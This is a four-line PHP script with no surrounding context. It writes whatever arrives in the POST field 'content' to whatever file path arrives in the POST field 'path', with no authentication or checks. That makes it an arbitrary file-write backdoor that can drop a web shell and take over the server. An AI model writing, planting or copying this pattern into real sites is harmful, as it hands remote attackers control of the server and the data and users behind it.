<?php
$h = fopen($_POST['path'], 'w');
fwrite($h, $_POST['content']);
fclose($h);
